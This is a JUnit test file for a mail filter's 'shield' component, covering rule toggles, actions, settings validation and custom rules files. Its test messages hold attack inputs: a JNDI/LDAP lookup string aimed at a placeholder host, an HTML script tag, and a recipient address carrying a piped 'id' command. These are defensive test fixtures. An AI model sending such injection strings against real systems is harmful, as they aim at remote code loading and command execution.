// Copyright the Postern authors
// SPDX-License-Identifier: Apache-2.0
package org.postern.filter.shield.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.postern.filter.Demand;
import org.postern.filter.Finding;
import org.postern.filter.Stage;
import org.postern.testkit.TestTransaction;

class ShieldFilterTest {

  private static final String SCRIPT = "Content-Type: text/html\n\n<script>a()</script>\n";
  private static final String LOOKUP = "Subject: ${jndi:ldap://192.0.2.7/a}\n\nx\n";

  private static final String OWN_RULE =
      """
      rule  own-word
      see   our policy
      at    MESSAGE text
      hint  tulip
      match tulip
      score 1
      say   The word {}.
      """;

  private static List<String> rules(ShieldFilter filter, Stage stage, String eml) throws Exception {
    return TestTransaction.at(stage).eml(eml).build().rulesOf(filter);
  }

  private static Finding only(ShieldFilter filter, Stage stage, String eml) throws IOException {
    List<Finding> findings = filter.examine(TestTransaction.at(stage).eml(eml).build()).findings();
    assertThat(findings).hasSize(1);
    return findings.get(0);
  }

  @Test
  void ordinaryTransactionHasNoFindings() throws Exception {
    assertThat(Shields.examine(Shields.withDefaults(), TestTransaction::at)).isEmpty();
  }

  @Test
  void disabledRuleIsNotLookedFor() throws Exception {
    ShieldFilter filter =
        Shields.with(Map.of("disabled_rules", new String[] {"shield.html-script"}));
    assertThat(rules(filter, Stage.MESSAGE, SCRIPT)).isEmpty();
  }

  @Test
  void disabledRuleOfAnAnomalyIsNotReportedUnderAnotherName() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("disabled_rules", new String[] {"mime-bad-base64"}));
    String eml = "Content-Transfer-Encoding: base64\n\nAAA*A\n";
    assertThat(rules(filter, Stage.MESSAGE, eml)).isEmpty();
  }

  @Test
  void actionTakesThePlaceOfTheDemand() throws Exception {
    ShieldFilter filter =
        Shields.with(Map.of("actions", new String[] {" html-script = Quarantine "}));
    assertThat(only(filter, Stage.MESSAGE, SCRIPT).demand()).contains(Demand.QUARANTINE);
  }

  @Test
  void actionScoreLeavesTheScoreAlone() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("actions", new String[] {"jndi-lookup=score"}));
    Finding finding = only(filter, Stage.HEADERS, LOOKUP);
    assertThat(finding.demand()).isEmpty();
    assertThat(finding.reply()).isEmpty();
    assertThat(finding.score()).isPositive();
  }

  @Test
  void replyForGoodIsNotGivenToATemporaryRefusal() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("actions", new String[] {"jndi-lookup=tempfail"}));
    Finding finding = only(filter, Stage.HEADERS, LOOKUP);
    assertThat(finding.demand()).contains(Demand.TEMPFAIL);
    assertThat(finding.reply()).isEmpty();
  }

  @Test
  void rejectAtRcptIsAboutThatRecipientAlone() throws Exception {
    TestTransaction transaction =
        TestTransaction.at(Stage.RCPT).to("<good@example.com>").to("<|id@example.com>").build();
    List<Finding> findings = Shields.withDefaults().examine(transaction).findings();
    assertThat(findings).isNotEmpty();
    assertThat(findings).allMatch(finding -> finding.recipient().equals(transaction.recipient()));
  }

  @Test
  void unknownRuleIsRefusedWithTheKnownNames() {
    SettingsReader.Result result =
        SettingsReader.read(
            Shields.settings(Map.of("disabled_rules", new String[] {"no-such-rule"})));
    assertThat(result.problems()).hasSize(1);
    assertThat(result.problems().get(0)).contains("no-such-rule").contains("jndi-lookup");
  }

  @Test
  void unknownActionIsRefusedWithTheKnownOnes() {
    SettingsReader.Result result =
        SettingsReader.read(
            Shields.settings(Map.of("actions", new String[] {"html-script=burn", "html-script"})));
    assertThat(result.problems()).hasSize(2);
    assertThat(result.problems().get(0)).contains("html-script=burn").contains("quarantine");
  }

  @Test
  void numberOutsideItsBoundsIsRefused() {
    SettingsReader.Result result =
        SettingsReader.read(Shields.settings(Map.of("max_part", 0, "max_recipients", 0)));
    assertThat(result.problems()).hasSize(2);
    assertThat(result.settings().maxRecipients()).isEqualTo(1);
  }

  @Test
  void badChangeKeepsTheSettingsBefore() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("disabled_rules", new String[] {"html-script"}));
    filter.modified(Shields.settings(Map.of("disabled_rules", new String[] {"no-such-rule"})));
    assertThat(rules(filter, Stage.MESSAGE, SCRIPT)).isEmpty();
  }

  @Test
  void goodChangeCountsAtOnce() throws Exception {
    ShieldFilter filter = Shields.with(Map.of("disabled_rules", new String[] {"html-script"}));
    filter.modified(Shields.settings(Map.of()));
    assertThat(rules(filter, Stage.MESSAGE, SCRIPT)).containsExactly("shield.html-script");
  }

  @Test
  void emptyLinesOfTheFormMeanNothing() {
    SettingsReader.Result result =
        SettingsReader.read(
            Shields.settings(
                Map.of("disabled_rules", new String[] {""}, "actions", new String[] {" "})));
    assertThat(result.problems()).isEmpty();
  }

  @Test
  void ownRulesAreLookedForToo(@TempDir Path directory) throws Exception {
    Path file = Files.writeString(directory.resolve("own.rules"), OWN_RULE);
    ShieldFilter filter = Shields.with(Map.of("rules_file", file.toString()));
    assertThat(rules(filter, Stage.MESSAGE, "Subject: x\n\na tulip and ${jndi:x}\n"))
        .containsExactlyInAnyOrder("shield.own-word", "shield.jndi-in-text");
  }

  @Test
  void badRulesFileIsRefusedAndItsLineNamed(@TempDir Path directory) throws Exception {
    Path file = Files.writeString(directory.resolve("own.rules"), "rule own-word\nscore 1\n");
    SettingsReader.Result result =
        SettingsReader.read(Shields.settings(Map.of("rules_file", file.toString())));
    assertThat(result.problems()).hasSize(1);
    assertThat(result.problems().get(0)).contains("own.rules, line 1: a rule needs a line 'see'");
    assertThat(result.settings().rules().rule("jndi-lookup")).isPresent();
  }

  @Test
  void missingRulesFileIsTold(@TempDir Path directory) {
    String file = directory.resolve("none.rules").toString();
    SettingsReader.Result result =
        SettingsReader.read(Shields.settings(Map.of("rules_file", file)));
    assertThat(result.problems()).hasSize(1);
    assertThat(result.problems().get(0)).contains(file);
  }

  @Test
  void nullSenderIsNoTrick() throws Exception {
    TestTransaction transaction = TestTransaction.at(Stage.MAIL).from("<>").build();
    assertThat(transaction.sender().map(sender -> sender.isNull())).isEqualTo(Optional.of(true));
    assertThat(transaction.rulesOf(Shields.withDefaults())).isEmpty();
  }
}
